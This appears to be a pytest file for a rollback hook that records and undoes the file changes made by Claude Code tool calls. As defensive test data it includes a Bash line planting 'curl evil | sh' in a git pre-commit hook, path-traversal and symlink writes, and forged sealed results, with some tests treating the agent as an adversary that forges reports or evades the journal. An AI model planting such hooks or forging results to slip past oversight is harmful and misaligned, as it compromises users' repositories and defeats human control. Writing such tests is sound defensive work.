"""`reversi hook --files` (issue 29): what Claude Code's Write, Edit and Bash calls change in a project is
kept by the hook, and a rollback with the fs connector puts the project back byte for byte, only while
each changed path is still as the call left it. Events are the JSON Claude Code writes on the hook's
stdin; the changes between them are made for real, as the tool would (a real shell for Bash)."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import reversi
from reversi.manifests import path as shipped

EXE = str(Path(sys.executable).with_name("reversi"))
CONNECTORS = str(Path(sys.executable).with_name("reversi-connectors"))
SESSION = "9a7e-files"
RUN = f"run_claude-{SESSION}"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project folder (the fs root), its connector folder beside it, and the sealing key."""
    root = tmp_path / "project"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("print('v1')\n")
    (root / "notes.md").write_text("# notes\n")
    (root / "old.txt").write_bytes(b"\x00\x01 binary")
    os.chmod(root / "old.txt", 0o640)
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    monkeypatch.setenv("REVERSI_FS_ROOT", str(root))
    monkeypatch.setenv("REVERSI_CONNECTOR_DIR", str(tmp_path / "connectors"))
    monkeypatch.setenv("REVERSI_CONNECTOR_KEY", "k" * 40)
    return root


def tree(root: Path) -> dict[str, Any]:
    """Every path under the root: a file's digest and mode, a folder as such."""
    found: dict[str, Any] = {}
    for path in sorted(root.rglob("*")):
        relative = path.relative_to(root).as_posix()
        found[relative] = ("dir" if path.is_dir() else
                           (hashlib.sha256(path.read_bytes()).hexdigest(), oct(path.stat().st_mode & 0o777)))
    return found


class Session:
    """Claude Code's side: hook events sent to `reversi hook --files`, tool calls made for real between."""

    def __init__(self, db: str, root: Path) -> None:
        self.db, self.root, self.calls = db, root, 0

    def hook(self, event: dict[str, Any]) -> subprocess.CompletedProcess[str]:
        done = subprocess.run([EXE, "--db", self.db, "hook", "--files"], input=json.dumps(event), capture_output=True,
                              text=True, cwd=self.root, timeout=60, env=os.environ.copy())
        assert done.returncode == 0, done.stderr
        return done

    def call(self, tool: str, tool_input: dict[str, Any], act: Any, *, fails: str | None = None) -> str:
        self.calls += 1
        call_id = f"toolu_{self.calls:02d}"
        base = {"session_id": SESSION, "cwd": str(self.root), "tool_name": tool, "tool_input": tool_input,
                "tool_use_id": call_id}
        assert self.hook({**base, "hook_event_name": "PreToolUse"}).stdout == ""
        act()
        if fails is None:
            self.hook({**base, "hook_event_name": "PostToolUse", "tool_response": {"ok": True}})
        else:
            self.hook({**base, "hook_event_name": "PostToolUseFailure", "error": fails})
        return call_id

    def write(self, relative: str, text: str) -> str:
        target = self.root / relative

        def act() -> None:
            target.parent.mkdir(parents=True, exist_ok=True)  # Claude Code's Write makes the folders
            target.write_text(text)

        return self.call("Write", {"file_path": str(target), "content": text}, act)

    def bash(self, command: str, *, fails: str | None = None) -> str:
        def act() -> None:
            subprocess.run(["/bin/sh", "-c", command], cwd=self.root, check=fails is None, timeout=60)

        return self.call("Bash", {"command": command}, act, fails=fails)


def rollback(db: str, *more: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([EXE, "--db", db, "rollback", RUN, "-m", str(shipped("claude-code")), "--json",
                           "--compensator-cmd", f"{CONNECTORS} compensate", "--reader-cmd", f"{CONNECTORS} read",
                           *more], capture_output=True, text=True, timeout=120, env=os.environ.copy())


def test_a_sessions_writes_edits_and_shell_changes_are_undone_byte_for_byte(project: Path, db_url: str) -> None:
    session, start = Session(db_url, project), tree(project)
    session.write("src/app.py", "print('v2')\n")
    session.write("docs/new/guide.md", "# guide\n")  # a new file in new folders
    session.bash("mkdir -p build && echo out > build/a.o && rm old.txt && printf more >> notes.md"
                 " && echo 'ref: x' > .git/HEAD && chmod 600 src/app.py")
    session.bash("ls -la > /dev/null")  # changes nothing
    session.bash("echo half > half.txt && exit 3", fails="Exit code 3")  # failed, but it changed a file
    assert tree(project) != start

    with reversi.open(db_url) as ledger:
        steps = ledger.get_run(RUN).steps()
    assert [s.status.value for s in steps] == ["succeeded"] * 5  # the failed command took effect all the same
    assert steps[4].result["error"] == "Exit code 3"
    assert [c["path"] for c in steps[2].result["files"]["changes"]] == ["build", "notes.md", "old.txt",
                                                                        "build/a.o", "src/app.py"]
    assert steps[3].result["files"]["changes"] == []

    done = rollback(db_url)
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(done.stdout)
    assert report["complete"] is True
    assert (report["compensated"], report["skipped"]) == ([4, 2, 1, 0], [3])  # 3 changed nothing
    after = tree(project)
    assert after.pop(".git/HEAD") != start.pop(".git/HEAD")  # a repository's own database is not rewritten
    assert after == start


def test_a_path_changed_after_the_call_stops_its_undo_and_nothing_of_that_step_is_touched(
        project: Path, db_url: str) -> None:
    session = Session(db_url, project)
    session.bash("printf one > one.txt && printf two > two.txt")
    (project / "two.txt").write_text("a person's edit")  # after the call: not the agent's to undo
    done = rollback(db_url)
    report = json.loads(done.stdout)
    assert done.returncode != 0 and report["complete"] is False and report["compensated"] == []
    assert "changed since step 0: two.txt now has sha256" in report["failed"][0]["error"]
    assert (project / "one.txt").read_text() == "one" and (project / "two.txt").read_text() == "a person's edit"


def test_a_rollback_run_twice_changes_nothing_more(project: Path, db_url: str) -> None:
    session = Session(db_url, project)
    session.write("notes.md", "rewritten\n")
    start = (project / "notes.md").read_text()
    assert rollback(db_url).returncode == 0
    restored = tree(project)
    again = rollback(db_url)
    assert again.returncode == 0 and tree(project) == restored and start == "rewritten\n"
    assert (project / "notes.md").read_text() == "# notes\n"


@pytest.mark.parametrize("file_path", ["/etc/passwd", "../outside.txt", "", "src/../../x", "\x00", 42])
def test_a_file_outside_the_root_is_not_kept_and_the_plan_says_the_undo_is_unavailable(
        project: Path, tmp_path: Path, file_path: Any) -> None:
    db = f"sqlite:///{tmp_path}/r.db"
    session = Session(db, project)
    session.call("Write", {"file_path": file_path, "content": "x"}, lambda: None)
    with reversi.open(db) as ledger:
        step = ledger.get_run(RUN).steps()[0]
    assert step.status.value == "succeeded" and "files" not in step.result
    assert step.result["files_unavailable"]
    plan = subprocess.run([EXE, "--db", db, "plan", RUN, "-m", str(shipped("claude-code"))], capture_output=True,
                          text=True, timeout=60)
    assert "unrecoverable" in plan.stdout and "$result.files" in plan.stdout
    assert not (tmp_path / "outside.txt").exists()


def test_changes_the_agent_reports_itself_are_refused_by_the_undo(project: Path, tmp_path: Path) -> None:
    """Over HTTP an agent reports any result it likes: forged changes (a path outside, bytes it chose) are
    not the connector's, and its undo refuses them without touching anything."""
    db = f"sqlite:///{tmp_path}/r.db"
    Session(db, project).write("notes.md", "mine\n")
    with reversi.open(db) as ledger:
        sealed = ledger.get_run(RUN).steps()[0].result["files"]
    forged = json.loads(json.dumps(sealed))
    forged["changes"][0]["path"] = "../../victim.txt"
    unsealed = {k: v for k, v in sealed.items() if k != "reversi_seal"}
    for result in (forged, unsealed, {"root": str(project), "changes": []}):
        done = subprocess.run([CONNECTORS, "compensate"], input=json.dumps(
            {"tool": "fs.restore_changes", "args": {"result": result}}), capture_output=True, text=True, timeout=60)
        assert done.returncode != 0 and "seal" in done.stderr + done.stdout
        assert "Traceback" not in done.stderr
    assert (project / "notes.md").read_text() == "mine\n"


def test_a_shell_call_in_a_root_too_big_to_keep_runs_and_says_so(project: Path, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    from reversi.connectors import fs_changes

    monkeypatch.setattr(fs_changes, "TREE_LIMIT", 3)  # the hook runs in this process here
    from reversi.integrations.claude_code import answer_hook

    db = f"sqlite:///{tmp_path}/r.db"
    with reversi.open(db) as ledger:
        base = {"session_id": SESSION, "tool_name": "Bash", "tool_input": {"command": "true"}, "tool_use_id": "toolu_1"}
        assert answer_hook(ledger, {**base, "hook_event_name": "PreToolUse"}, files=True).output is None
        answer_hook(ledger, {**base, "hook_event_name": "PostToolUse", "tool_response": "ok"}, files=True)
        step = ledger.get_run(RUN).steps()[0]
    assert step.status.value == "succeeded"
    assert "over 3 files and folders" in step.result["files_unavailable"]


def test_a_file_too_big_to_keep_is_not_read_and_a_halt_still_denies_the_call(project: Path, tmp_path: Path) -> None:
    """A sparse file of gigabytes costs the agent nothing to make: the hook must neither read it into memory
    nor fail open. The call is journaled without its files, and a halt still denies it."""
    with (project / "huge.bin").open("wb") as huge:
        huge.truncate(8 * 1024**3)
    db = f"sqlite:///{tmp_path}/r.db"
    session = Session(db, project)
    session.bash("true")
    with reversi.open(db) as ledger:
        step = ledger.get_run(RUN).steps()[0]
        assert "huge.bin holds 8589934592 bytes" in step.result["files_unavailable"]
        ledger.add_halt("repo frozen", tool="Bash")
    denied = session.hook({"session_id": SESSION, "hook_event_name": "PreToolUse", "tool_name": "Bash",
                           "tool_input": {"command": "true"}, "tool_use_id": "toolu_99"})
    assert json.loads(denied.stdout)["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_a_change_to_gits_hooks_or_config_is_never_passed_over(project: Path, db_url: str) -> None:
    """`.git` is not kept (a rollback does not rewrite a repository under git), but what in it runs code is
    watched: a call that changed it is not skipped as a read, and its undo refuses the whole step."""
    (project / ".git" / "hooks").mkdir()
    session = Session(db_url, project)
    session.bash("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo x > a.txt")
    session.bash("git config --file .git/config core.hooksPath /tmp/elsewhere || echo '[core]' >> .git/config")
    with reversi.open(db_url) as ledger:
        steps = ledger.get_run(RUN).steps()
    assert steps[0].result["files"]["unseen"] == [".git/hooks"] and steps[1].result["files"]["unseen"] == [
        ".git/config"]
    report = json.loads(rollback(db_url).stdout)
    assert report["skipped"] == [] and report["complete"] is False
    failed = {f["step"]: f["error"] for f in report["failed"]}
    assert "also changed .git/hooks, which fs does not keep: nothing was undone" in failed[0]
    assert (project / "a.txt").exists()  # nothing of that step was undone


def test_a_write_through_a_symbolic_link_is_not_kept(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "bashrc"
    outside.write_text("safe\n")
    (project / "notes-link.md").symlink_to(outside)
    db = f"sqlite:///{tmp_path}/r.db"
    Session(db, project).call("Write", {"file_path": str(project / "notes-link.md"), "content": "evil"},
                              lambda: outside.write_text("evil"))
    with reversi.open(db) as ledger:
        step = ledger.get_run(RUN).steps()[0]
    assert "is a symbolic link" in step.result["files_unavailable"] and "files" not in step.result


def test_a_name_utf8_cannot_hold_is_not_passed_over(project: Path, tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path}/r.db"
    Session(db, project).bash("touch \"$(printf 'bad\\377name')\"")
    with reversi.open(db) as ledger:
        files = ledger.get_run(RUN).steps()[0].result["files"]
    assert files["changes"] == [] and files["unseen"] == ["names UTF-8 cannot hold"]


def test_sealed_changes_naming_a_folder_fs_never_keeps_are_refused(project: Path) -> None:
    """Whoever holds the key could seal anything; the undo still never writes into `.git` or `.reversi`."""
    from reversi.connectors._seal import seal

    forged = seal("fs.changes", {"root": str(project), "unseen": [], "changes": [
        {"path": ".git/hooks/pre-commit", "before": {"exists": False, "type": None, "sha256": None, "mode": None},
         "after": {"exists": False, "type": None, "sha256": None, "mode": None}}]})
    done = subprocess.run([CONNECTORS, "compensate"], input=json.dumps(
        {"tool": "fs.restore_changes", "args": {"result": forged}}), capture_output=True, text=True, timeout=60)
    assert done.returncode != 0 and "a folder fs never keeps" in done.stderr + done.stdout


def test_a_folder_the_call_made_that_now_holds_something_else_stops_the_undo_before_it_changes_anything(
        project: Path, tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path}/r.db"
    Session(db, project).bash("mkdir out && echo a > out/a.txt")
    (project / "out" / "mine.txt").write_text("a person's file")
    report = json.loads(rollback(db).stdout)
    assert "out holds 'mine.txt', which the step did not make" in report["failed"][0]["error"]
    assert (project / "out" / "a.txt").read_text() == "a\n"  # nothing of the step was undone


def test_a_failed_command_that_changed_only_what_fs_cannot_keep_is_not_taken_for_one_that_did_nothing(
        project: Path, tmp_path: Path) -> None:
    (project / ".git" / "hooks").mkdir()
    db = f"sqlite:///{tmp_path}/r.db"
    Session(db, project).bash("echo evil > .git/hooks/post-checkout; exit 1", fails="Exit code 1")
    with reversi.open(db) as ledger:
        step = ledger.get_run(RUN).steps()[0]
    assert step.status.value == "succeeded" and step.result["files"]["unseen"] == [".git/hooks"]
    assert step.result["error"] == "Exit code 1"
